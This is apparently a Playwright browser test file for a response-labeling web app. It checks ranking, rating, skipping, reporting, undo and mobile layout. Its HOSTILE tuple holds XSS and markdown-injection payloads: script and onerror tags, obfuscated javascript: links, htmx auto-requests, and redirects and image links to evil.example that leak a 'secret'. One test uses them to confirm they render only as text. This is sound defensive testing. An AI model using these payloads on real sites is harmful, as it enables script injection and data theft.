"""A labeler at work in a real browser; what counts is what the database holds afterwards."""

import asyncio
import re

from playwright.async_api import Page, Request, Route, expect
from sqlalchemy import text

from app.db import transaction
from tests.browser.labeling_data import (
    MODELS,
    PASSWORD,
    Item,
    make_place,
    stored_rankings,
    task_states,
)
from tests.browser.screen import Screen
from tests.slates import make_slates

HOSTILE = (
    "<script>alert(1)</script><svg onload=alert(2)></svg><details open ontoggle=alert(3)>",
    "<img src=x onerror=alert(4)> ![x](http://evil.example/?q=secret) ![y][r]\n\n"
    "[r]: http://evil.example/reference.png",
    "[a](javascript:alert(5)) [b](JaVaScRiPt:alert(6)) [c](javascript&colon;alert(7)) "
    "[d](&#x6A;avascript:alert(8)) <javascript:alert(9)> [e](java%0ascript:alert(10))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMSk8L3NjcmlwdD4=) [b](//evil.example) "
    "[c](/sign-out) [d](http://user:pw@evil.example) [e](vbscript:alert(12))",
    '<div hx-get="/users" hx-trigger="load"></div> <div data-hx-post="/sign-out" '
    "data-hx-trigger=load></div> <b hx-on:load=alert(13)>x</b>",
    "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example> "
    "<style>@import '//evil.example/x.css'</style><iframe srcdoc='<script>alert(14)</script>'>"
    "</iframe><form action=//evil.example><button formaction=//evil.example>x</button></form>",
)


async def complete(screen: Screen) -> None:
    """Rate and rank everything with keys: the first response is best."""
    for number, letter in enumerate(await screen.ids(), start=1):
        await screen.page.keyboard.press(letter.lower())
        await screen.page.keyboard.press("4")
        await screen.page.keyboard.press(letter.lower())
        await screen.page.keyboard.press(f"Shift+Digit{number}")
    await expect(screen.status).to_have_text("Ready to submit")


async def hurry(page: Page) -> None:
    """Make the pauses between attempts short."""
    await page.add_init_script(
        "const wait = window.setTimeout; window.setTimeout = (run, ms) => wait(run, ms / 100);"
    )


async def overflow(page: Page) -> int:
    """By how many pixels the page is wider than its window."""
    return await page.evaluate(
        "document.documentElement.scrollWidth - document.documentElement.clientWidth"
    )


async def test_a_labeler_signs_in_ranks_with_drag_and_ties_and_gets_the_next_task(
    open_page, engine
):
    place = await make_place(engine, has_read=False)
    page = await open_page()
    screen = Screen(page)

    await page.goto(place.label)
    await page.get_by_label("Email address").fill(place.email)
    await page.get_by_label("Password").fill(PASSWORD)
    await page.get_by_role("button", name="Sign in").click()
    await expect(page.get_by_text("Prefer the helpful answer.")).to_be_visible()
    await page.get_by_role("button", name="I have read them").click()
    await screen.ready()
    ids, task = await screen.ids(), await screen.task()
    assert list(ids) == ["A", "B", "C", "D"]

    for letter, rating in (("A", 3), ("B", 7), ("C", 3), ("D", 1)):
        await screen.rate(letter, rating)
    await screen.drag("B", 1)
    await screen.drag("A", 3)
    await screen.drag("C", 3)
    await screen.drag("D", 4)
    flags = screen.card("D").locator("[data-flags]")
    await flags.locator("summary").click()
    await flags.get_by_label("Hallucination").check()
    note = screen.card("B").locator("[data-note]")
    await note.locator("summary").click()
    await note.get_by_role("textbox").fill("Short and right.")
    await expect(screen.status).to_have_text("Ready to submit")
    await screen.submit.click()

    await screen.is_another_than(task)
    [ranking] = await stored_rankings(engine, place)
    assert ranking.items == {
        ids["B"]: Item(1, 7, [], "Short and right."),
        ids["A"]: Item(2, 3, []),
        ids["C"]: Item(2, 3, []),
        ids["D"]: Item(3, 1, ["hallucination"]),
    }
    assert ranking.display_order == list(ids.values())
    await expect(screen.status).to_have_text("4 not rated; 4 not ranked")


async def test_the_keyboard_alone_ranks_and_submits(open_page, engine):
    place = await make_place(engine)
    page = await open_page(place.labeler_id)
    screen = Screen(page)
    await screen.open(place.label)
    ids, task = await screen.ids(), await screen.task()
    press = page.keyboard.press

    for rating in "4235":
        await press(rating)
    for key in ("a", "Shift+Digit2", "Shift+Digit4", "=", "Shift+Digit1"):
        await press(key)
    await expect(screen.status).to_have_text("Ready to submit")
    await press("Control+Enter")

    await screen.is_another_than(task)
    [ranking] = await stored_rankings(engine, place)
    assert ranking.items == {
        ids["D"]: Item(1, 5, []),
        ids["A"]: Item(2, 4, []),
        ids["B"]: Item(3, 2, []),
        ids["C"]: Item(3, 3, []),
    }


async def test_nine_responses_take_at_most_nineteen_keys(open_page, engine):
    place = await make_place(engine, responses=9)
    page = await open_page(place.labeler_id)
    screen = Screen(page)
    await screen.open(place.label)
    task = await screen.task()

    keys = ["4"] * 9 + [f"Shift+Digit{row}" for row in range(1, 10)] + ["Control+Enter"]
    for key in keys:
        await page.keyboard.press(key)

    await screen.is_another_than(task)
    [ranking] = await stored_rankings(engine, place)
    assert sorted(item.rank for item in ranking.items.values()) == list(range(1, 10))


async def test_clicks_place_chips_and_take_them_back(open_page, engine):
    place = await make_place(engine)
    screen = Screen(await open_page(place.labeler_id))
    await screen.open(place.label)

    await screen.click_to("C", 2)
    await screen.click_to("A", 2)
    await expect(screen.card("A").locator("[data-rank-pill]")).to_have_text("Rank 2 = C")
    await screen.chip("C").click()
    await screen.tray.click()
    await expect(screen.tray.locator('[data-letter="C"]')).to_be_visible()
    await expect(screen.status).to_have_text("4 not rated; B, C, D not ranked")


async def test_a_letter_shows_the_head_of_a_response_taller_than_the_window(open_page, engine):
    place = await make_place(engine, texts=[f"{n} words " * 2000 for n in range(4)])
    page = await open_page(place.labeler_id)
    screen = Screen(page)
    await screen.open(place.label)
    for letter in "AB":
        await screen.card(letter).get_by_role("button", name="Show all").click()
    await page.keyboard.press("d")

    await page.keyboard.press("a")

    await expect(screen.card("A").locator(".response-header")).to_be_in_viewport(ratio=0.99)


async def test_the_rank_menu_takes_digits_and_arrows(open_page, engine):
    place = await make_place(engine)
    page = await open_page(place.labeler_id)
    screen = Screen(page)
    await screen.open(place.label)
    menu = page.locator("[data-rank-menu]")

    await screen.card("B").locator("[data-rank-pill]").click()
    await expect(menu).to_contain_text("1 is best")
    await page.keyboard.press("2")
    await screen.is_in_row("B", 2)
    await expect(menu).to_be_hidden()

    await screen.card("C").locator("[data-rank-pill]").click()
    for key in ("ArrowRight", "ArrowRight", "ArrowLeft", "Enter"):
        await page.keyboard.press(key)
    await screen.is_in_row("C", 2)
    await expect(screen.card("C").locator("[data-rank-pill]")).to_have_text("Rank 2 = B")


async def test_until_the_first_rank_the_board_says_how_to_rank(open_page, engine):
    place = await make_place(engine)
    page = await open_page(place.labeler_id)
    screen = Screen(page)
    await screen.open(place.label)
    how, ties = page.get_by_text("Drag a letter to a row"), page.get_by_text("Ties are welcome")

    await expect(how).to_be_visible()
    await expect(ties).to_be_hidden()
    await screen.click_to("C", 2)

    await expect(how).to_be_hidden()
    await expect(ties).to_be_visible()


async def test_a_chip_has_a_number_only_after_rating(open_page, engine):
    place = await make_place(engine)
    page = await open_page(place.labeler_id)
    screen = Screen(page)
    await screen.open(place.label)

    await expect(screen.chip("A")).to_have_accessible_name("Response A, not rated, not ranked")
    await screen.rate("A", 5)

    await expect(screen.chip("A")).to_have_accessible_name("Response A, rated 5, not ranked")
    await expect(screen.chip("A").locator("small")).to_have_text("5")


async def test_the_tray_of_nine_responses_stays_in_sight(open_page, engine):
    place = await make_place(engine, responses=9)
    small = {"width": 1024, "height": 768}
    page = await open_page(place.labeler_id, viewport=small)
    screen = Screen(page)
    await screen.open(place.label)

    await expect(screen.tray).to_be_in_viewport(ratio=1)
    tray, bar = await screen.tray.bounding_box(), await page.locator(".bar").bounding_box()
    assert tray["y"] + tray["height"] <= bar["y"]


async def test_skipping_without_a_reason_asks_for_one(open_page, engine):
    place = await make_place(engine)
    page = await open_page(place.labeler_id)
    await Screen(page).open(place.label)

    await page.get_by_role("button", name="Skip…").click()
    await page.get_by_role("button", name="Skip and go on").click()

    await expect(page.locator("[data-skip-error]")).to_have_text("Choose a reason.")


async def test_the_rank_pill_of_a_card_places_it(open_page, engine):
    place = await make_place(engine)
    page = await open_page(place.labeler_id)
    screen = Screen(page)
    await screen.open(place.label)

    await screen.card("B").locator("[data-rank-pill]").click()
    await (
        page.get_by_role("button", name="Rank 3", exact=True)
        .and_(page.locator("[data-rank-menu] button"))
        .click()
    )

    await screen.is_in_row("B", 3)


async def test_the_rank_menu_puts_an_unranked_response_into_a_new_row(open_page, engine):
    place = await make_place(engine)
    page = await open_page(place.labeler_id)
    screen = Screen(page)
    await screen.open(place.label)
    for letter, row in (("A", 1), ("B", 2)):
        await page.keyboard.press(letter.lower())
        await page.keyboard.press(f"Shift+Digit{row}")

    await screen.card("C").locator(".rank-pill").click()
    await page.get_by_role("button", name="In a new row above B").click()

    for row, letter in enumerate("ACB", start=1):
        await screen.is_in_row(letter, row)


async def test_an_untouched_board_and_a_partly_filled_one_cannot_be_submitted(open_page, engine):
    place = await make_place(engine)
    page = await open_page(place.labeler_id)
    screen = Screen(page)
    sent: list[str] = []
    page.on("request", lambda request: sent.append(request.url))
    await screen.open(place.label)
    task = await screen.task()

    await expect(screen.submit).to_be_disabled()
    await page.keyboard.press("Control+Enter")
    await expect(page.get_by_role("alert")).to_have_text("Not complete: 4 not rated; 4 not ranked")
    await expect(screen.card("A")).to_be_focused()

    for key in ("5", "5", "5", "5", "a", "Shift+Digit1", "Shift+Digit2", "Shift+Digit3"):
        await page.keyboard.press(key)
    await expect(screen.status).to_have_text("D not ranked")
    await expect(screen.submit).to_be_disabled()
    await page.keyboard.press("a")
    await screen.submit.click(force=True)
    await expect(page.get_by_role("alert")).to_have_text("Not complete: D not ranked")
    await expect(screen.card("D")).to_be_focused()

    assert await screen.task() == task
    assert [url for url in sent if url.endswith("/ranking")] == []
    assert await stored_rankings(engine, place, at_least=0) == []


async def test_a_response_that_cannot_be_judged_needs_no_rank(open_page, engine):
    place = await make_place(engine)
    page = await open_page(place.labeler_id)
    screen = Screen(page)
    await screen.open(place.label)
    ids, task = await screen.ids(), await screen.task()

    await complete(screen)
    await screen.card("B").get_by_label("can be judged").select_option("garbled")
    await expect(screen.chip("B")).to_have_count(0)
    await page.keyboard.press("Control+Enter")

    await screen.is_another_than(task)
    [ranking] = await stored_rankings(engine, place)
    assert {letter: ranking.items[ids[letter]].rank for letter in "ABCD"} == {
        "A": 1, "B": None, "C": 2, "D": 3,
    }  # fmt: skip


async def test_skipping_with_a_reason_gives_the_next_task(open_page, engine):
    place = await make_place(engine)
    page = await open_page(place.labeler_id)
    screen = Screen(page)
    await screen.open(place.label)
    task = await screen.task()

    await page.get_by_role("button", name="Skip…").click()
    await page.get_by_label("It needs expertise that I lack").check()
    await page.get_by_role("button", name="Skip and go on").click()

    await screen.is_another_than(task)
    assert ("skipped", "expertise") in await task_states(engine, place)
    assert await stored_rankings(engine, place, at_least=0) == []


async def test_a_double_click_skips_one_task_and_makes_one_report(open_page, engine):
    place = await make_place(engine, slates=3)
    page = await open_page(place.labeler_id)
    asked: list[str] = []
    is_let_go = asyncio.Event()

    async def hold(route: Route) -> None:
        asked.append(route.request.url.rpartition("/")[2])
        await is_let_go.wait()
        await route.continue_()

    await page.route(re.compile(r"/api/v1/tasks/\d+/(skip|report)$"), hold)
    screen = Screen(page)
    await screen.open(place.label)
    task = await screen.task()

    await page.keyboard.press("w")
    dialog = page.get_by_role("dialog")
    await dialog.get_by_label("It is not displayed right").check()
    await dialog.get_by_role("button", name="Report", exact=True).dblclick()
    is_let_go.set()
    await expect(page.locator("[data-passing]")).to_contain_text("Reported.")
    is_let_go.clear()
    await page.get_by_role("button", name="Skip…").click()
    await page.get_by_label("It needs expertise that I lack").check()
    await page.get_by_role("button", name="Skip and go on").dblclick()
    is_let_go.set()

    await screen.is_another_than(task)
    assert asked == ["report", "skip"]
    states = [status for status, _ in await task_states(engine, place)]
    assert (states.count("skipped"), states.count("leased")) == (1, 1)


async def test_a_reload_in_the_middle_of_a_task_keeps_what_was_done(open_page, engine):
    place = await make_place(engine)
    page = await open_page(place.labeler_id)
    screen = Screen(page)
    await screen.open(place.label)
    await screen.rate("C", 6)
    await screen.click_to("C", 1)
    await screen.click_to("A", 1)

    await page.reload()
    await screen.ready()

    await screen.is_in_row("C", 1)
    await screen.is_in_row("A", 1)
    await expect(screen.card("C").get_by_role("radio", name="6")).to_be_checked()
    await expect(screen.status).to_have_text("A, B, D not rated; B, D not ranked")


async def test_nothing_on_the_page_names_a_model(open_page, engine):
    place = await make_place(engine)
    page = await open_page(place.labeler_id)
    bodies: list[str] = []

    await Screen(page).open(place.label)
    bodies.append(await page.content())
    bodies.append(await (await page.request.get(place.label)).text())

    for body in bodies:
        assert not [name for name in MODELS if name in body]
        assert "seed" not in re.sub(r"<[^>]+>", "", body)


async def test_hostile_responses_are_only_text(open_page, engine):
    place = await make_place(engine, slates=1, responses=6, texts=HOSTILE)
    page = await open_page(place.labeler_id)
    asked: list[str] = []

    def on_request(request: Request) -> None:
        asked.append(request.url)

    page.on("request", on_request)
    screen = Screen(page)

    await screen.open(place.label)
    await page.wait_for_load_state("networkidle")

    origin = await page.evaluate("location.origin")
    task = await screen.task()
    own = [
        origin + place.label,
        f"{origin}{place.label}/ahead?beside={task}",
        f"{origin}/api/v1/tasks/{task}/events",  # After 15 seconds.
    ]
    assert [
        url for url in asked if url not in own and not url.startswith(origin + "/static/")
    ] == []
    links = await page.locator(".response-body a").evaluate_all("all => all.map(a => a.href)")
    assert links == []
    assert (
        await page.locator(".response-body :is(script, img, svg, form, iframe, style)").count() == 0
    )
    await expect(page.get_by_text("alert(1)")).to_be_visible()


async def test_on_a_phone_taps_place_and_nothing_overflows(open_page, engine):
    place = await make_place(engine, texts=["word " * 5000, "x" * 500])
    page = await open_page(place.labeler_id, viewport={"width": 390, "height": 844}, has_touch=True)
    screen = Screen(page)
    await screen.open(place.label)
    ids, task = await screen.ids(), await screen.task()
    assert await overflow(page) == 0

    for letter in "ABCD":
        await screen.card(letter).locator(".rating label").nth(4).tap()
    await page.get_by_role("button", name="Rank board").tap()
    for letter, row in (("D", 1), ("C", 2), ("B", 2), ("A", 4)):
        await screen.chip(letter).tap()
        await screen.row(row).locator(".row-number").tap()
        await screen.is_in_row(letter, row)
    assert await overflow(page) == 0
    await screen.submit.tap()
    await expect(page.get_by_role("alert")).to_contain_text("very short for")
    assert await overflow(page) == 0
    await screen.submit.tap()

    await expect(page.locator(f'[data-labeling]:not([data-task="{task}"])')).to_be_visible()
    [ranking] = await stored_rankings(engine, place)
    assert [ranking.items[ids[letter]].rank for letter in "DCBA"] == [1, 2, 2, 3]


async def test_undo_takes_everything_back_and_survives_a_reload(open_page, engine):
    place = await make_place(engine)
    page = await open_page(place.labeler_id)
    screen = Screen(page)
    await screen.open(place.label)
    undo = page.locator("[data-step=undo]")
    redo = page.locator("[data-step=redo]")
    await expect(undo).to_have_attribute("aria-disabled", "true")
    await screen.rate("A", 5)
    await page.keyboard.press("a")
    await page.keyboard.press("Shift+Digit2")
    await page.keyboard.press("a")
    await page.keyboard.press("n")
    await page.keyboard.type("too long")
    await page.keyboard.press("Escape")

    await page.reload()
    await screen.ready()
    note = screen.card("A").locator("[data-note] textarea")
    await expect(note).to_have_value("too long")
    await expect(undo).to_have_attribute("title", "Undo: note on A")
    await page.keyboard.press("u")
    await expect(note).to_have_value("")
    await expect(page.get_by_text("Undone: note on A")).to_be_attached()
    await page.keyboard.press("Control+z")
    await expect(screen.tray.locator('.chip[data-letter="A"]')).to_be_attached()
    await undo.click()
    await expect(screen.card("A").get_by_role("radio", name="5")).not_to_be_checked()
    await expect(undo).to_have_attribute("aria-disabled", "true")

    await expect(redo).to_have_attribute("title", "Redo: A rated 5")
    await redo.click()
    await page.keyboard.press("Shift+U")
    await screen.is_in_row("A", 2)
    await expect(screen.card("A").get_by_role("radio", name="5")).to_be_checked()
    await screen.rate("B", 3)
    await expect(redo).to_have_attribute("aria-disabled", "true")


async def test_undo_in_a_note_is_the_browsers_own(open_page, engine):
    place = await make_place(engine)
    page = await open_page(place.labeler_id)
    screen = Screen(page)
    await screen.open(place.label)
    await screen.rate("A", 5)
    await page.keyboard.press("a")
    await page.keyboard.press("n")
    await page.keyboard.type("u")

    await page.keyboard.press("Control+z")

    await expect(screen.card("A").locator("[data-note] textarea")).to_have_value("")
    await expect(screen.card("A").get_by_role("radio", name="5")).to_be_checked()


async def bar_height(page) -> float:
    return await page.locator(".bar").evaluate("bar => bar.offsetHeight")


async def test_enter_in_a_rating_submits_nothing_and_a_click_needs_no_focus(open_page, engine):
    place = await make_place(engine)
    page = await open_page(place.labeler_id)
    screen = Screen(page)
    await screen.open(place.label)
    task = await screen.task()
    await screen.complete()

    await screen.card("A").get_by_role("radio", name="4").press("Enter")
    await expect(screen.submit).to_be_enabled()
    assert await screen.task() == task
    # Some browsers give a button that is clicked no focus.
    await screen.submit.evaluate(
        "button => button.addEventListener('mousedown', (event) => event.preventDefault())"
    )
    await screen.submit.click()
    await screen.is_another_than(task)


async def test_a_conflict_is_asked_about_once_and_what_was_done_is_stored(open_page, engine):
    place = await make_place(engine)
    page = await open_page(place.labeler_id)
    screen = Screen(page)
    await screen.open(place.label)
    ids, task = await screen.ids(), await screen.task()
    await screen.has_next()
    for letter, rating, row in (("A", 6, 2), ("B", 2, 1), ("C", 1, 3), ("D", 7, 4)):
        await screen.rate(letter, rating)
        await page.keyboard.press(letter.lower())
        await page.keyboard.press(f"Shift+Digit{row}")

    await page.keyboard.press("Control+Enter")
    alert = page.get_by_role("alert")
    await expect(alert).to_contain_text("You rated A 6 and B 2, but B is ranked above A.")
    await expect(alert).to_contain_text("You rated D 7 and C 1, but C is ranked above D.")
    assert [status for status, _ in await task_states(engine, place)] == ["leased", "leased"]
    await expect(alert.get_by_role("button", name="Compare A and B")).to_be_focused()
    await page.keyboard.press("Enter")
    layer = page.get_by_role("dialog", name="Compare two")
    assert await layer.locator(".pair-side h4").all_text_contents() == ["Response A", "Response B"]
    await page.keyboard.press("Escape")
    await expect(layer).to_be_hidden()
    assert await bar_height(page) > 100
    await page.keyboard.press("Alt+ArrowUp")  # the last one that was ranked, D
    await expect(alert).to_be_hidden()
    await expect(screen.card("D")).to_be_focused()
    await page.keyboard.press("Control+Z")
    await page.keyboard.press("a")
    await page.keyboard.press("Shift+Digit1")
    assert await bar_height(page) <= 64
    await page.keyboard.press("b")
    await page.keyboard.press("Shift+Digit2")
    await page.keyboard.press("Control+Enter")
    await screen.is_another_than(task)
    await stored_rankings(engine, place)

    async with transaction(engine) as tx:
        stored = await tx.scalar(
            text("select warnings from rankings where labeler_id = :id"), {"id": place.labeler_id}
        )
    assert {(one["kind"], *one["responses"], one["action"]) for one in stored} == {
        ("conflict", ids["A"], ids["B"], "changed"),
        ("conflict", ids["D"], ids["B"], "kept"),
        ("conflict", ids["D"], ids["C"], "kept"),
    }


async def test_what_is_asked_about_has_a_button_that_submits_it_as_it_is(open_page, engine):
    place = await make_place(engine)
    page = await open_page(place.labeler_id)
    screen = Screen(page)
    await screen.open(place.label)
    task = await screen.task()
    await screen.complete()
    await screen.rate("D", 7)

    await screen.submit.click()
    keep = page.get_by_role("alert").get_by_role("button", name="Submit as it is")
    await expect(keep).to_be_visible()
    await screen.submit.press("Shift+Tab")
    while not await keep.evaluate("button => button === document.activeElement"):
        assert await page.evaluate("document.activeElement.closest('.bar') !== null")
        await page.keyboard.press("Shift+Tab")
    await page.keyboard.press("Enter")

    await screen.is_another_than(task)
    await stored_rankings(engine, place)
    async with transaction(engine) as tx:
        stored = await tx.scalar(
            text("select warnings from rankings where labeler_id = :id"), {"id": place.labeler_id}
        )
    assert {(one["kind"], one["action"]) for one in stored} == {("conflict", "kept")}


async def test_find_counts_and_marks_in_the_prompt_and_all_responses(open_page, engine):
    place = await make_place(
        engine, texts=["The **mo**on is far.", "Moon, moon!", "No.", "The sun and the MOON"]
    )
    page = await open_page(place.labeler_id)
    screen = Screen(page)
    await screen.open(place.label)
    found = {
        letter: await screen.card(letter).locator("[data-body]").inner_text() for letter in "ABCD"
    }
    counts = {letter: text.lower().count("moon") for letter, text in found.items()}

    await page.keyboard.press("/")
    await page.keyboard.type("moon")
    said = ", ".join(f"{letter} {count}" for letter, count in counts.items() if count)
    await expect(page.locator("[data-find-counts]")).to_have_text(said)
    assert await page.evaluate("CSS.highlights.get('found').size") == 4
    await page.keyboard.press("Enter")
    first = next(letter for letter, count in counts.items() if count)
    await expect(screen.card(first)).to_have_class(re.compile("is-active"))
    await page.keyboard.press("Escape")

    await expect(page.locator("[data-find]")).to_be_hidden()
    assert await page.evaluate("CSS.highlights.has('found')") is False
    await expect(screen.card(first)).to_be_focused()


async def test_one_response_at_a_time_is_rated_and_ranked_in_turn(open_page, engine):
    place = await make_place(engine)
    page = await open_page(place.labeler_id)
    screen = Screen(page)
    await screen.open(place.label)

    await page.keyboard.press("z")
    await expect(screen.card("A")).to_be_visible()
    await expect(screen.card("B")).to_be_hidden()
    await expect(page.locator("[data-board]")).to_be_hidden()
    await page.keyboard.press("4")
    await expect(screen.card("B")).to_be_visible()
    await expect(screen.card("A")).to_be_hidden()
    await page.keyboard.press("Shift+Digit2")
    await page.keyboard.press("z")

    await screen.is_in_row("B", 2)
    await expect(screen.card("A").get_by_role("radio", name="4")).to_be_checked()


async def test_a_sensitive_task_is_covered_until_the_labeler_wants_to_see_it(open_page, engine):
    place = await make_place(engine)
    async with transaction(engine) as tx:
        await tx.execute(text("update prompts set tags = '{sensitive}' where project_id = :id"),
                         {"id": place.project_id})  # fmt: skip
    page = await open_page(place.labeler_id)
    screen = Screen(page)
    await screen.open(place.label)

    await expect(screen.card("A").locator("[data-body]")).to_be_hidden()
    await page.keyboard.press("y")

    await expect(screen.card("A").locator("[data-body]")).to_be_visible()
    await expect(page.locator("[data-veil]")).to_be_hidden()


async def test_what_cannot_be_ranked_is_submitted_with_the_reason(open_page, engine):
    place = await make_place(engine)
    page = await open_page(place.labeler_id)
    screen = Screen(page)
    await screen.open(place.label)
    task = await screen.task()
    for letter in "ABCD":
        await screen.rate(letter, 1)

    await page.locator("[data-cannot-rank]").select_option("all_unacceptable")
    await expect(screen.status).to_have_text("Ready to submit")
    await page.keyboard.press("Control+Enter")

    await screen.is_another_than(task)
    [ranking] = await stored_rankings(engine, place)
    assert {item.rank for item in ranking.items.values()} == {1}
    async with transaction(engine) as tx:
        reason = await tx.scalar(
            text("select cannot_rank from rankings where labeler_id = :id"),
            {"id": place.labeler_id},
        )
    assert reason == "all_unacceptable"


async def test_a_report_of_harm_takes_the_task_away_and_goes_on(open_page, engine):
    place = await make_place(engine)
    page = await open_page(place.labeler_id)
    screen = Screen(page)
    await screen.open(place.label)
    task = await screen.task()

    await page.keyboard.press("w")
    dialog = page.get_by_role("dialog")
    await dialog.get_by_role("button", name="Report", exact=True).click()
    await expect(dialog.get_by_role("alert")).to_have_text("Choose what is wrong.")
    await dialog.get_by_label("It shows somebody's personal data").check()
    await dialog.get_by_label("Note").fill("a phone number")
    await dialog.get_by_role("button", name="Report", exact=True).click()

    await screen.is_another_than(task)
    await expect(page.locator("[data-passing]")).to_contain_text("taken back until an admin")
    assert sorted(status for status, _ in await task_states(engine, place)) == ["leased", "void"]


async def test_a_report_is_confirmed_although_the_next_task_comes_late(open_page, engine):
    place = await make_place(engine)
    page = await open_page(place.labeler_id)
    is_let_go = asyncio.Event()

    async def bring_late(route: Route) -> None:
        await is_let_go.wait()
        await route.continue_()

    await page.route("**/label/ahead*", bring_late)
    screen = Screen(page)
    await screen.open(place.label)
    task = await screen.task()

    await page.keyboard.press("w")
    dialog = page.get_by_role("dialog")
    await dialog.get_by_label("It shows somebody's personal data").check()
    await dialog.get_by_role("button", name="Report", exact=True).click()
    await expect(dialog).to_be_hidden()
    is_let_go.set()

    await screen.is_another_than(task)
    await expect(page.locator("[data-passing]")).to_contain_text("taken back until an admin")


async def test_responses_with_the_same_text_are_one_card_and_stored_as_two(open_page, engine):
    place = await make_place(engine, texts=["The same  text.", "The same text.", "Else.", "More."])
    page = await open_page(place.labeler_id)
    screen = Screen(page)
    await screen.open(place.label)
    task = await screen.task()
    twin = page.locator('[data-twin-letters]:not([data-twin-letters=""])')
    letter, other = [
        await twin.get_attribute(name) for name in ("data-letter", "data-twin-letters")
    ]
    await expect(twin.locator(".response-header")).to_contain_text(f"= {other}")
    await expect(page.locator("[data-board] [data-row]")).to_have_count(3)
    first = int(await twin.get_attribute("data-response"))
    [second] = [int(part) for part in (await twin.get_attribute("data-twins")).strip("[]").split()]

    for one in await screen.ids():
        await screen.rate(one, 5)
        await screen.click_to(one, 2 if one == letter else 1)
    await page.keyboard.press(other.lower())
    await expect(twin).to_be_focused()
    await page.keyboard.press("Control+Enter")
    await screen.is_another_than(task)

    [ranking] = await stored_rankings(engine, place)
    assert ranking.items[first].rank == ranking.items[second].rank == 2
    async with transaction(engine) as tx:
        stored = await tx.scalar(
            text("select duplicate_of from ranking_items where response_id = :id"), {"id": second}
        )
    assert stored == first


async def test_an_empty_response_says_that_it_is_empty(open_page, engine):
    place = await make_place(engine, texts=["", " \n"], responses=3)
    screen = Screen(await open_page(place.labeler_id))
    await screen.open(place.label)

    empty = screen.page.locator("[data-body][data-empty]")
    await expect(empty).to_have_count(1)  # both are the same
    assert "This response is empty." in await empty.evaluate(
        "body => getComputedStyle(body, '::before').content"
    )


async def test_the_header_says_the_round_and_what_counts_most(open_page, engine):
    place = await make_place(engine, slates=1)
    async with transaction(engine) as tx:
        await make_slates(tx, project_id=place.project_id, count=1)
    page = await open_page(place.labeler_id)
    screen = Screen(page)
    await screen.open(place.label)
    header = page.get_by_role("banner")
    await expect(header).to_contain_text("Helpful first, then truthful and harmless")
    await expect(page.locator("#prompt")).not_to_contain_text("Helpful first", use_inner_text=True)
    rounds = [await page.locator("[data-round]").inner_text()]
    task = await screen.task()
    await screen.complete()
    await page.keyboard.press("Control+Enter")
    await screen.is_another_than(task)
    rounds.append(await page.locator("[data-round]").inner_text())

    assert sorted(rounds) == ["1", "2"]
